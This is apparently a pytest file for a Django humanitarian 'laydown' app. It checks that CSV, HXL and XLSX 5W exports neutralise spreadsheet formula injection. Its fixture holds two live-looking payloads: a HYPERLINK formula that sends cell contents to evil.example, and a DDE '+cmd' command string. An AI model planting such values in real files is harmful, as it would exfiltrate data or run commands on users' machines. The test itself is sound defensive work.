"""A partner's activity or item name never runs as a formula in a 5W export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from laydown.assistance import exports, selectors

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/?x="&A2,"Open")'


@pytest.fixture
def rows(distribute, manager) -> list[dict]:
    distribute(activity=EVIL, item="+cmd|' /C calc'!A0")
    return list(selectors.five_w_rows(manager))


@pytest.mark.parametrize("hxl", [False, True])
def test_5w_csv_and_hxl_neutralise_formula_cells(rows, hxl: bool) -> None:
    lines = list(csv.reader(io.StringIO("".join(exports.csv_lines(rows, hxl=hxl)))))
    data = lines[-1]
    assert "'" + EVIL in data and "'+cmd|' /C calc'!A0" in data
    assert not any(cell.startswith(("=", "+", "@")) for cell in data)


def test_the_5w_xlsx_writes_formula_like_text_as_strings(rows) -> None:
    book = load_workbook(io.BytesIO(b"".join(exports.xlsx_chunks(rows))))
    cells = [c for c in book.active.iter_rows(min_row=3).__next__() if c.value == EVIL]
    assert cells and cells[0].data_type == "s"
